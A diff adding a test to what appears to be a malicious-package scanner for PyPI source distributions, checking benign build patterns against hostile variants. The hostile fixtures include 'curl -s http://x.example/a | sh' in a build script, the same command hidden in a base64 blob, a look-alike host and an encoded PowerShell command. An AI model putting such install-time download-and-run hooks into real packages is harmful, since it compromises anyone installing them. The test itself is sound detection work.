@@ -1484,3 +1484,45 @@ def test_seventeenth_held_out_batch_shapes() -> None:
     for files in bad:
         result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
         assert result != "clean", (sorted(files), findings)
+
+
+def test_eighteenth_and_nineteenth_held_out_batch_shapes() -> None:
+    """Causes behind batches 18-19's first-sight PyPI false positives: a build pointing conan at the
+    official ConanCenter URL (sqlcipher3-wheels), a build running its own shipped script through
+    PowerShell or after ``chmod +x`` (poseidon-py), and a launcher decoding its own base64 command-line
+    argument before starting workers (deepspeed)."""
+    conan = ("import subprocess\nfrom setuptools import setup\n"
+             "subprocess.run(['conan', 'remote', 'update', 'conancenter', '--url=https://center2.conan.io'])\n"
+             + _SETUP)
+    scripts = ("import platform, subprocess\nfrom setuptools import setup\n"
+               "if platform.system() == 'Windows':\n"
+               "    subprocess.Popen(['powershell.exe', '.\\\\build.ps1']).wait()\nelse:\n"
+               "    subprocess.run('chmod a+x ./build.sh && ./build.sh', shell=True, check=True)\n" + _SETUP)
+    launcher = ("import argparse, base64, json, subprocess, sys\n\ndef parse_args():\n"
+                "    parser = argparse.ArgumentParser()\n    parser.add_argument('--world_info')\n"
+                "    parser.add_argument('script')\n    return parser.parse_args()\n\ndef main():\n"
+                "    args = parse_args()\n    world = json.loads(base64.urlsafe_b64decode(args.world_info))\n"
+                "    for rank in world:\n        cmd = [sys.executable, '-u', args.script, f'--rank={rank}']\n"
+                "        subprocess.Popen(cmd)\n\nif __name__ == '__main__':\n    main()\n")
+    base = {"setup.py": _SETUP, "helperlib/__init__.py": "", "build.sh": "#!/bin/sh\nmake -C src\n",
+            "build.ps1": "cmake --build build\n"}
+    cases: list[dict[str, str]] = [
+        {"setup.py": conan}, {"setup.py": scripts}, {"helperlib/launch.py": launcher},
+    ]
+    for files in cases:
+        result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
+        assert result == "clean", (sorted(files), findings)
+    # a look-alike of the official host, a shipped script that downloads and runs, an encoded PowerShell
+    # command and a shipped blob decoded into the command are still judged
+    blob = base64.b64encode(b'["sh", "-c", "curl -s http://x.example/a | sh"]').decode()
+    bad: list[dict[str, str]] = [
+        {"setup.py": conan.replace("center2.conan.io", "center2.conan.io.x.example")},
+        {"setup.py": scripts, "build.sh": "#!/bin/sh\ncurl -s http://x.example/a | sh\n"},
+        {"setup.py": scripts.replace("'.\\\\build.ps1'", "'-enc', 'SQBFAFgA'")},
+        {"helperlib/launch.py": launcher.replace("base64.urlsafe_b64decode(args.world_info)",
+                                                 f"base64.b64decode('{blob}')").replace(
+            "cmd = [sys.executable, '-u', args.script, f'--rank={rank}']", "cmd = world")},
+    ]
+    for files in bad:
+        result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
+        assert result != "clean", (sorted(files), findings)
